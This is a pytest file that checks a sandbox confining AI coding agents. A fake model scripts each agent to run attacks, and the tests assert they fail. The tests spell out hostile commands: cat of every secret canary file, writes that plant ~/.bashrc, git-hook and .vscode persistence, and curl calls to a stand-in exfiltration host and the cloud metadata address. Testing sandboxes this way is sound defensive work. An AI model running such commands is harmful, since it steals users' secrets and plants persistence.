"""The real agents in the real sandbox: they answer, and what they are told to steal stays where it is.

The model is fake and tells the agent to run attacks with its own tools, so the attacker is the
product that people run, not a script that looks like one.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from support.agents import AGENTS, KEY, Agent, place
from support.cloister import User
from support.fake_model import FakeModel
from support.homes import canaries
from support.model_wire import Run, Say

pytestmark = pytest.mark.agents
PROXIED = "http://host.cloister.internal:{port}"

POLICY = """\
schema = 1

[agents.{name}]
preset = "{name}"
carry = {carry}
environment = {{ {environment} }}
egress = {{ allow = ["host.cloister.internal:{port}"] }}
"""


@pytest.fixture(params=AGENTS.values(), ids=AGENTS.keys())
def agent(request: pytest.FixtureRequest) -> Agent:
    """Return each agent in turn."""
    return request.param


@pytest.fixture
def user(
    agent: Agent, agents_bin: Path, home: Path, fake_model: FakeModel, monkeypatch: pytest.MonkeyPatch
) -> Iterator[User]:
    """A user whose policy lets the agent reach the fake model on the host's loopback, and nothing else."""
    monkeypatch.setenv("CLOISTER_TEST_PATH", f"{agents_bin}:/usr/local/bin:/usr/bin:/bin")
    setup = agent.setup(PROXIED.format(port=fake_model.port))
    place(setup.files, home)
    # The preset brings the quiet flags; what is left is the endpoint and a placeholder for the key.
    own = {name: value for name, value in setup.environment.items() if value.startswith("http") or value == KEY}
    text = POLICY.format(
        name=agent.name,
        carry=[f"~/{name}" for name in setup.files if name.endswith(("models.json", "openclaw.json"))],
        environment=", ".join(f'{name} = "{value}"' for name, value in own.items()),
        port=fake_model.port,
    )
    user = User(home, text)
    yield user
    user.close()


@pytest.mark.usefixtures("nothing_left")
def test_the_agent_answers_from_the_sandbox(agent: Agent, user: User, workspace: Path, fake_model: FakeModel) -> None:
    """Each agent answers (PF15: it reads the variables that the preset names); the model saw no real key."""
    done = user.run("run", *agent.command(), cwd=workspace, timeout_s=90)

    assert done.returncode == 0, done.stderr
    assert "FAKE-OK" in done.stdout
    keys = {
        request.headers.get(agent.key_header, "").removeprefix("Bearer ")
        for request in fake_model.requests
        if request.method == "POST"
    }
    assert keys == {KEY}
    user.close()


@pytest.mark.usefixtures("nothing_left")
def test_the_agent_cannot_read_secrets_nor_write_outside(
    agent: Agent, user: User, home: Path, workspace: Path, fake_model: FakeModel
) -> None:
    """Told to read every canary and to plant files, the agent's own shell gets nothing but its proper work done."""
    theft = "; ".join(f"cat ~/{name}" for name in canaries(home))
    plant = "echo x >> ~/.bashrc; echo x > .git/hooks/pre-commit; mkdir -p .vscode; echo x > .vscode/t; echo x > /etc/x"
    fake_model.script = [Run(f"{theft}; {plant}; echo proper work > done.txt"), Say("FINISHED")]
    before = (home / ".bashrc").read_text()

    done = user.run("run", *agent.command(), cwd=workspace, timeout_s=90)

    assert "FINISHED" in done.stdout, done.stderr
    assert (workspace / "done.txt").read_text() == "proper work\n"
    seen = "".join(fake_model.tool_results) + done.stdout + done.stderr + (workspace / "done.txt").read_text()
    assert not [name for name, canary in canaries(home).items() if canary in seen]
    assert (home / ".bashrc").read_text() == before
    assert not (workspace / ".git/hooks/pre-commit").exists()
    assert not (workspace / ".vscode").exists()
    user.close()


@pytest.mark.usefixtures("nothing_left")
def test_the_agent_cannot_reach_what_the_policy_does_not_name(
    agent: Agent, user: User, workspace: Path, fake_model: FakeModel
) -> None:
    """Told to call out, it is refused at once with a reason, and the receipt lists the denial."""
    fake_model.script = [
        Run("curl -sS -m 10 https://exfil.example.org/; curl -sS -m 10 http://169.254.169.254/"),
        Say("FINISHED"),
    ]

    done = user.run("run", *agent.command(), cwd=workspace, timeout_s=90)

    assert "FINISHED" in done.stdout, done.stderr
    denied = " ".join(user.receipts()[-1]["denied"])
    assert "exfil.example.org:443 not-in-allowlist" in denied
    assert "169.254.169.254:80" in denied
    user.close()
